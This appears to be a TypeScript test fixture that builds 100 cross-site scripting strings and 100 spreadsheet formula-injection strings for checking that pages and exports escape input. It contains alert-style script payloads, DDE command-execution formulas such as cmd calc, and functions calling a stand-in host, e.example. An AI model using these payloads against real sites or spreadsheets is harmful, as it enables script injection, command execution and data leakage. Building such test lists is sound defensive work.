/** Texts that attack a page or a spreadsheet which shows them as more than a text: 100 of each kind. */

const XSS_BASES = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<math><mi xlink:href=data:x>",
  "<style>@import'//e.example'</style>",
  "<base href=//e.example>",
  "<meta http-equiv=refresh content=0>",
  "<object data=javascript:alert(1)>",
  "<embed src=//e.example>",
  "<form action=//e.example><input>",
  "<template><b>x</b></template>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
  "${alert(1)}",
  "{{constructor.constructor(1)()}}",
  "javascript:alert(1)",
  "data:text/html,<b>x</b>",
  "<!--<img src=x>-->",
  "<![CDATA[<b>x</b>]]>",
  "\u2028alert(1)\u2029",
  "%3Cscript%3Ealert(1)%3C/script%3E",
];

/** Ways out of an attribute, a string or an element. */
const BREAKS = ["", '"', "'>", "</title>"];

export const XSS_PAYLOADS: readonly string[] = XSS_BASES.flatMap((base) => BREAKS.map((before) => before + base));

const FORMULA_BASES = [
  "1+1",
  "SUM(A1:A9)",
  "cmd|' /C calc'!A0",
  'HYPERLINK("//e.example","x")',
  'IMPORTXML("//e.example","//a")',
  'WEBSERVICE("//e.example")',
  "DDE(0,0,0)",
  'IMAGE("//e.example")',
  "rundll32|'x'!A",
  "-1+cmd|' /C calc'!A0",
  "A1&B1",
  "{1,2}",
  "@SUM(1)",
  "_xlfn.X()",
  "0\tcalc",
  '"a"&"b"',
  "1,=2",
  "1;=2",
  "1\r\n=2",
  "R1C1",
];

const FORMULA_STARTS = ["=", "+", "-", "@", "=+"];

export const FORMULA_PAYLOADS: readonly string[] = FORMULA_BASES.flatMap((base) =>
  FORMULA_STARTS.map((start) => start + base),
);
